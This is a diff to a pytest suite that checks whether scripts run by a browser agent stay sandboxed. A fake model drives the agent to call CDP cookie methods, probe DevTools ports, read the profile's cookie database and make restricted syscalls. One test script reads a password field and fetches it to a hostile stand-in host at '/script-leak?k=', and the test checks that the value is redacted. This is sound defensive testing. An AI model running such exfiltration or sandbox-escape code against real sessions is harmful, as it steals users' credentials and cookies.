@@ -11,6 +11,7 @@ import os
 import secrets
 import time
 from pathlib import Path
+from typing import Any
 
 import psutil
 import pytest
@@ -119,49 +120,59 @@ def printed(text: str) -> dict[str, str]:
     return dict(line.split(" => ", 1) for line in lines if " => " in line)
 
 
-def test_a_script_reaches_its_page_not_the_browser_its_files_or_the_kernel(
-    agent_server: ServerProcess, fake: FakeProvider, site: FixtureSites
-) -> None:
+def profile_with_a_secret_cookie(server: ServerProcess) -> tuple[str, str]:
+    """A profile holding an HttpOnly cookie of another site (so Chromium's cookie database exists on disk)."""
     jar_secret = f"jar-{secrets.token_hex(8)}"
     profile = f"seams.{token('p')}"
     bank_cookie = cookie("bank_sid", jar_secret, domain="bank.example", httpOnly=True, secure=False, sameSite="Lax")
-    assert import_state(agent_server, profile, {"cookies": [bank_cookie]}).status_code == 200
-    ports = [slot_layout(agent_server.slot_base + i).cdp_port for i in range(3)]
-    marker = token("SEAMS")
-    fake.script(
-        marker,
-        [
-            agent_step([{"run_code_file": {"name": "cdp", "code": CDP_SCRIPT, "url": f"{site.url}/jobs"}}]),
-            run_code("escape", f"PORTS = {ports!r}\n" + ESCAPE_SCRIPT),
-            done("tried"),
-        ],
-        when=agent_steps,
-    )
-    session = create(agent_server, task=f"{marker} Look around.", profileId=profile)
-    sid = session["id"]
-    finished = wait_until_status(agent_server, sid, {"stopped", "error"}, timeout=240)
-    assert finished["status"] == "stopped", finished["lastStepSummary"]
-    requests = step_requests(fake, marker)
+    assert import_state(server, profile, {"cookies": [bank_cookie]}).status_code == 200
+    return profile, jar_secret
 
-    cdp = printed(requests[1].text)
-    assert cdp.keys() >= {"Storage.getCookies", "Storage.setCookies", "Network.getAllCookies"}, requests[1].text
+
+def run_script(server: ServerProcess, fake: FakeProvider, step: dict[str, Any], profile: str) -> tuple[str, str]:
+    """One session of the profile that runs one script step; the agent's reply to it, and the session id."""
+    marker = token("SEAMS")
+    fake.script(marker, [step, done("tried")], when=agent_steps)
+    sid = create(server, task=f"{marker} Look around.", profileId=profile)["id"]
+    finished = wait_until_status(server, sid, {"stopped", "error"}, timeout=240)
+    assert finished["status"] == "stopped", finished["lastStepSummary"]
+    replies = [r.text for r in fake.requests_matching(marker)]
+    return step_requests(fake, marker)[1].text, "\n".join(replies)
+
+
+def test_a_script_reaches_its_page_and_never_the_profiles_cookie_jar(
+    agent_server: ServerProcess, fake: FakeProvider, site: FixtureSites
+) -> None:
+    profile, jar_secret = profile_with_a_secret_cookie(agent_server)
+    step = agent_step([{"run_code_file": {"name": "cdp", "code": CDP_SCRIPT, "url": f"{site.url}/jobs"}}])
+    reply, everything = run_script(agent_server, fake, step, profile)
+    cdp = printed(reply)
+    assert cdp.keys() >= {"Storage.getCookies", "Storage.setCookies", "Network.getAllCookies"}, reply
     for method, answer in cdp.items():
         assert answer.startswith('"refused CdpError: Refused by OpenBrowse'), (method, answer)
-    assert "page title: Jobs" in requests[1].text, "the page itself is still the script's"
-    feed = loopback.get(f"{agent_server.v3}/sessions/{sid}/messages", params={"limit": 1000}, timeout=30).text
-    assert jar_secret not in feed and all(jar_secret not in r.text for r in fake.requests_matching(marker))
+    assert "page title: Jobs" in reply, "the page itself is still the script's"
+    assert jar_secret not in everything
     jar = storage_state(agent_server, profile)
     assert "planted" not in jar_cookies(jar) and jar_cookies(jar).get("bank_sid") == jar_secret
 
-    escape = printed(requests[2].text)
+
+def test_a_script_reaches_neither_the_devtools_port_nor_the_profile_on_disk_nor_risky_syscalls(
+    agent_server: ServerProcess, fake: FakeProvider, site: FixtureSites
+) -> None:
+    profile, jar_secret = profile_with_a_secret_cookie(agent_server)
+    ports = [slot_layout(agent_server.slot_base + i).cdp_port for i in range(3)]
+    code = f"PORTS = {ports!r}\n" + ESCAPE_SCRIPT
+    step = agent_step([{"run_code_file": {"name": "escape", "code": code, "url": f"{site.url}/jobs"}}])
+    reply, everything = run_script(agent_server, fake, step, profile)
+    escape = printed(reply)
     assert all(escape[f"devtools {port}"] == "refused" for port in ports), escape
     assert escape["profiles seen"] == "1", "the script saw Chromium's command line, so it knew where to look"
     assert escape["cookie database"].startswith("refused"), escape
     for name in SYSCALLS:
-        result, code = escape[name].split()
-        assert result == "-1" and code == "EPERM", (name, escape[name])
+        result, errno_name = escape[name].split()
+        assert result == "-1" and errno_name == "EPERM", (name, escape[name])
     assert escape["clone3"] == "-1 ENOSYS", "libc falls back to clone, whose flags the filter reads"
-    assert any(m["summary"] == "Running escape.py" for m in messages(agent_server, sid))
+    assert jar_secret not in everything
 
 
 def test_the_script_host_runs_under_a_uid_of_its_own_in_a_network_namespace_of_its_own(
@@ -208,9 +219,10 @@ def _wait_for_script_host(server: ServerProcess) -> psutil.Process:
 SECRET_SCRIPT = """
 value = await browser.evaluate("document.querySelector('input[type=password]').value")
 print("field holds", value)
-print("as repr", repr(value))
 remember("pw-copy", value)
 print("remembered", recall("pw-copy"))
+answer = await fetch(HOSTILE + "/script-leak?k=" + value)
+print("sent", answer["status"])
 """
 
 
@@ -220,9 +232,14 @@ def test_what_a_script_prints_or_hands_over_hides_the_sessions_secrets(
     value = f"Pw{secrets.token_hex(10)}Z"
     marker = token("SECRETCODE")
     with SecretSites() as sites:
+        sites.state.clear()
         fake.script(
             marker,
-            [type_into("Password", "<secret>pw</secret>"), run_code("read", SECRET_SCRIPT), done("read")],
+            [
+                type_into("Password", "<secret>pw</secret>"),
+                run_code("read", f"HOSTILE = {sites.hostile!r}\n" + SECRET_SCRIPT),
+                done("read"),
+            ],
             when=agent_steps,
         )
         session = create(
@@ -236,6 +253,8 @@ def test_what_a_script_prints_or_hands_over_hides_the_sessions_secrets(
     reply = step_requests(fake, marker)[2].text
     assert "field holds <secret>pw</secret>" in reply, reply[-2000:]
     assert "remembered <secret>pw</secret>" in reply
+    assert "sent 200" in reply and b"/script-leak?k=" in sites.state.hostile_bytes()
+    assert value.encode() not in sites.state.hostile_bytes(), "what a script hands the server is redacted"
     feed = json.dumps(messages(agent_server, sid))
     assert value not in feed and value not in reply
     assert all(value not in r.text for r in fake.requests_matching(marker))
